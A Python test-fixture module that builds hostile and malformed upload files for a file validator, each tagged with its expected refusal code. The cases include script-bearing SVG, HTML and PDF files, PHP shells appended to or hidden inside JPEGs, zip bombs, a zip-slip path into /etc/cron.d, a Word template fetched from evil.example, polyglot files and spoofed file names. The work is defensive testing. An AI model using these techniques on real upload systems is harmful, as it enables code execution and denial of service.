"""Hostile and broken files, each with the code of the reason for which it is refused."""

import io
import struct
import zipfile
from collections.abc import Callable
from typing import NamedTuple

from .making import (
    CARD,
    animation,
    archive,
    film,
    mp3,
    office,
    open_document,
    pdf,
    pdf_with_packed_objects,
    photo,
    picture,
    png_chunk,
    png_of,
    webm,
)

MEGABYTE = 1024**2
SCRIPT = b"<script>alert(1)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
GIF_AND_SCRIPT = b"GIF89a/*" + b"\0" * 20 + b"*/=1;alert(document.domain)//;"
REMOTE_TEMPLATE = (
    b'<Relationship Type="http://x/attachedTemplate" Target="https://evil.example/t.dotm"/>'
)
MACRO_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600


class Hostile(NamedTuple):
    """A file that must not get in."""

    name: str
    make: Callable[[], bytes]
    code: str


def nested(depth: int = 3) -> bytes:
    inner = archive({"zeros": b"\0" * MEGABYTE})
    for number in range(depth):
        inner = archive({f"{number}.zip": inner})
    return inner


def encrypted_archive() -> bytes:
    content = bytearray(archive({"a.txt": b"secret"}))
    for signature, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        content[content.find(signature) + place] |= 1
    return bytes(content)


def overlapping_archive() -> bytes:
    """Two entries of the directory that share one body, as the tightest bombs have it."""
    content = archive({"a": zlib_noise(4000)})
    start = content.find(b"PK\x01\x02")
    end = content.rfind(b"PK\x05\x06")
    directory = content[start:end] * 3
    tail = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, 3, 3, len(directory), start, 0)
    return content[:start] + directory + tail


def zlib_noise(size: int) -> bytes:
    return picture("PNG", (200, 100))[:size]


def many_entries() -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        for number in range(5_001):
            archive.writestr(str(number), b"")
    return file.getvalue()


def jpeg_with_comment(text: bytes) -> bytes:
    content = picture("JPEG")
    return content[:2] + b"\xff\xfe" + struct.pack(">H", len(text) + 2) + text + content[2:]


def without_checksum() -> bytes:
    content = bytearray(picture("PNG"))
    content[-20] ^= 0xFF
    return bytes(content)


IMAGES = {
    "an SVG with a script": Hostile("logo.svg", lambda: SVG, "svg"),
    "an SVG without one": Hostile("logo.svg", lambda: b"<svg/>", "svg"),
    "an SVG named PNG": Hostile("logo.png", lambda: SVG, "other_content"),
    "a packed SVG": Hostile("logo.svgz", lambda: b"\x1f\x8b" + b"\0" * 20, "svg"),
    "a photo that browsers cannot show": Hostile("photo.heic", lambda: film(b"heic"), "heic"),
    "50,000 by 50,000 pixels": Hostile(
        "bomb.png", lambda: png_of(50_000, 50_000), "too_many_pixels"
    ),
    "6,000 by 6,000 pixels": Hostile("big.png", lambda: png_of(6_000, 6_000), "too_many_pixels"),
    "two thousand frames": Hostile(
        "bomb.gif", lambda: animation("GIF", 2_000, (2, 2)), "too_many_frames"
    ),
    "a large animation": Hostile(
        "bomb.webp", lambda: animation("WEBP", 40, (1000, 1000)), "too_many_frames"
    ),
    "an animated PNG": Hostile("moving.png", lambda: animation("PNG"), "animated_png"),
    "no pixels behind a header": Hostile("empty.png", lambda: png_of(800, 600), "damaged"),
    "zero bytes": Hostile("empty.png", lambda: b"", "empty"),
    "a truncated JPEG": Hostile("cut.jpg", lambda: picture("JPEG", (400, 300))[:-9000], "damaged"),
    "a truncated PNG": Hostile("cut.png", lambda: picture("PNG")[:-60], "damaged"),
    "a truncated GIF": Hostile("cut.gif", lambda: picture("GIF")[:-60], "damaged"),
    "a truncated WebP": Hostile("cut.webp", lambda: picture("WEBP")[:-60], "damaged"),
    "a truncated AVIF": Hostile("cut.avif", lambda: picture("AVIF")[:-60], "damaged"),
    "a PNG with a wrong checksum": Hostile("broken.png", without_checksum, "damaged"),
    "21 MB": Hostile("large.jpg", lambda: picture("JPEG").ljust(21 * MEGABYTE, b"\0"), "too_large"),
    "a GIF that is a script": Hostile("script.gif", lambda: GIF_AND_SCRIPT, "damaged"),
    "a JPEG and a ZIP in one": Hostile(
        "both.jpg", lambda: picture("JPEG") + archive({"a": b"b"}), "trailing_data"
    ),
    "a PNG and a PDF in one": Hostile("both.png", lambda: picture("PNG") + pdf(), "trailing_data"),
    "a GIF and a JAR in one": Hostile(
        "both.gif", lambda: picture("GIF") + archive({"A.class": b"b"}), "trailing_data"
    ),
    "a WebP with something behind": Hostile(
        "both.webp", lambda: picture("WEBP") + b"#!/bin/sh", "trailing_data"
    ),
    "PHP behind a JPEG": Hostile(
        "both.jpg", lambda: picture("JPEG") + b"<?php system(1); ?>", "program_code"
    ),
    "PHP in a comment": Hostile(
        "shell.jpg", lambda: jpeg_with_comment(b"<?php system(1); ?>"), "program_code"
    ),
    "a script in a text chunk": Hostile(
        "text.png",
        lambda: picture("PNG")[:33] + png_chunk(b"tEXt", b"a\0" + SCRIPT) + picture("PNG")[33:],
        "program_code",
    ),
    "a PNG named JPEG": Hostile("wrong.jpg", lambda: picture("PNG"), "other_content"),
    "a PDF named PNG": Hostile("paper.png", pdf, "other_content"),
    "a web page named PNG": Hostile(
        "page.png", lambda: b"<!doctype html>" + SCRIPT, "other_content"
    ),
    "a program named PNG": Hostile("setup.png", lambda: b"MZ" + b"\0" * 400, "other_content"),
    "a BMP": Hostile("old.bmp", lambda: picture("BMP"), "type"),
    "a second suffix": Hostile("photo.php.jpg", lambda: picture("JPEG"), "double_suffix"),
    "a suffix behind the suffix": Hostile("photo.jpg.exe", lambda: picture("JPEG"), "type"),
    "letters that run backwards": Hostile(
        "photo\N{RIGHT-TO-LEFT OVERRIDE}gpj.exe", lambda: picture("JPEG"), "type"
    ),
    "a zero byte in the name": Hostile("photo.jpg\0.php", lambda: picture("JPEG"), "type"),
    "no suffix": Hostile("photo", lambda: picture("JPEG"), "type"),
}

DOCUMENTS = {
    "zero bytes": Hostile("empty.pdf", lambda: b"", "empty"),
    "51 MB": Hostile("large.pdf", lambda: pdf().ljust(51 * MEGABYTE, b"\0"), "too_large"),
    "a web page": Hostile("page.html", lambda: SCRIPT, "type"),
    "an SVG": Hostile("logo.svg", lambda: SVG, "svg"),
    "an image": Hostile("photo.jpg", photo, "type"),
    "a web page named PDF": Hostile("page.pdf", lambda: b"<html>" + SCRIPT, "other_content"),
    "HTML before a PDF": Hostile("both.pdf", lambda: SCRIPT + pdf(), "other_content"),
    "HTML within the head of a PDF": Hostile(
        "both.pdf", lambda: pdf()[:9] + b"%<html><body>\n" + pdf()[9:], "program_code"
    ),
    "a ZIP behind a PDF": Hostile(
        "both.pdf", lambda: pdf() + archive({"a": b"b"}), "trailing_data"
    ),
    "a truncated PDF": Hostile("cut.pdf", lambda: pdf()[:-300], "damaged"),
    "a PDF with a script": Hostile(
        "script.pdf",
        lambda: pdf().replace(
            b"/Catalog", b"/Catalog /OpenAction <</S /JavaScript /JS (app.alert)>>"
        ),
        "active_content",
    ),
    "a PDF that starts a program": Hostile(
        "run.pdf",
        lambda: pdf().replace(b"/Catalog", b"/Catalog /OpenAction <</S /L#61unch>>"),
        "active_content",
    ),
    "a PDF that hides a script": Hostile(
        "packed.pdf",
        lambda: pdf_with_packed_objects(b"1 0 <</S/JavaScript/JS(app.alert\\(1\\))>>"),
        "active_content",
    ),
    "a PDF that unpacks to gigabytes": Hostile(
        "bomb.pdf", lambda: pdf_with_packed_objects(b" " * 60 * MEGABYTE), "unpacks_too_large"
    ),
    "a PDF with an attached file": Hostile(
        "attached.pdf", lambda: pdf(attached=b"MZ"), "active_content"
    ),
    "a PDF with a password": Hostile(
        "secret.pdf", lambda: pdf(password="correct horse"), "protected"
    ),
    "a zip bomb": Hostile(
        "bomb.zip", lambda: archive({"zeros": b"\0" * 60 * MEGABYTE}), "unpacks_too_large"
    ),
    "a bomb named Word": Hostile(
        "bomb.docx", lambda: office(**{"word/media/1": b"\0" * 60 * MEGABYTE}), "unpacks_too_large"
    ),
    "overlapping parts": Hostile("bomb.zip", overlapping_archive, "unpacks_too_large"),
    "archives in archives": Hostile("nested.zip", nested, "nested_archive"),
    "thousands of entries": Hostile("many.zip", many_entries, "too_many_entries"),
    "a path out of the folder": Hostile(
        "slip.zip", lambda: archive({"../../etc/cron.d/x": b""}), "unsafe_path"
    ),
    "a program in an archive": Hostile(
        "tool.zip", lambda: archive({"setup.exe": b"MZ"}), "program_code"
    ),
    "an archive with a password": Hostile("secret.zip", encrypted_archive, "protected"),
    "a truncated archive": Hostile("cut.zip", lambda: archive({"a": b"b" * 99})[:-30], "damaged"),
    "something before an archive": Hostile(
        "both.zip", lambda: b"#!/bin/sh\n" + archive({"a": b"b"}), "other_content"
    ),
    "something behind an archive": Hostile("both.docx", lambda: office() + pdf(), "trailing_data"),
    "Word with macros": Hostile("macro.docm", office, "macros"),
    "macros named docx": Hostile(
        "macro.docx", lambda: office(**{"word/vbaProject.bin": b"x"}), "macros"
    ),
    "a macro type named docx": Hostile(
        "macro.docx", lambda: office(content_type=MACRO_TYPE), "macros"
    ),
    "a template from elsewhere": Hostile(
        "inject.docx", lambda: office(**{"word/_rels/settings.xml.rels": REMOTE_TEMPLATE}), "macros"
    ),
    "a plain ZIP named docx": Hostile("plain.docx", lambda: archive({"a.txt": b"a"}), "damaged"),
    "Excel named docx": Hostile("sheet.docx", lambda: office("xl/workbook.xml"), "other_content"),
    "an encrypted or old office file": Hostile("old.docx", lambda: OLE, "other_content"),
    "OpenDocument with macros": Hostile(
        "macro.odt", lambda: open_document(**{"Basic/script.xml": b""}), "macros"
    ),
    "OpenDocument with a password": Hostile(
        "secret.odt", lambda: open_document(manifest="<encryption-data/>"), "protected"
    ),
    "another OpenDocument": Hostile(
        "sheet.odt",
        lambda: open_document("application/vnd.oasis.opendocument.spreadsheet"),
        "other_content",
    ),
    "HTML in a text": Hostile(
        "page.txt", lambda: b"Hello <img src=x onerror=alert(1)>", "program_code"
    ),
    "a script in a table": Hostile("table.csv", lambda: b"a;b\n1;" + SCRIPT, "program_code"),
    "a program named text": Hostile("tool.txt", lambda: b"\x7fELF" + b"\0" * 99, "other_content"),
    "zero bytes in a text": Hostile("zero.csv", lambda: b"a;b\n" * 2000 + b"\0", "no_text"),
    "a text named calendar": Hostile("event.ics", lambda: b"Hello", "other_content"),
    "half an address card": Hostile("ada.vcf", lambda: CARD[:-8], "damaged"),
    "a truncated film": Hostile("cut.mp4", lambda: film()[:-1], "damaged"),
    "a film with a ZIP behind": Hostile(
        "both.mp4", lambda: film() + archive({"a": b"b"}), "trailing_data"
    ),
    "a film without an index": Hostile("cut.mov", lambda: film(b"qt  ")[:20], "damaged"),
    "a WebM with HTML behind": Hostile("both.webm", lambda: webm() + SCRIPT, "trailing_data"),
    "an MP3 with a ZIP behind": Hostile(
        "both.mp3", lambda: mp3() + archive({"a": b"b"}), "trailing_data"
    ),
    "an MP3 of one frame": Hostile("short.mp3", lambda: mp3(1), "damaged"),
    "a second suffix": Hostile("paper.html.pdf", pdf, "double_suffix"),
}
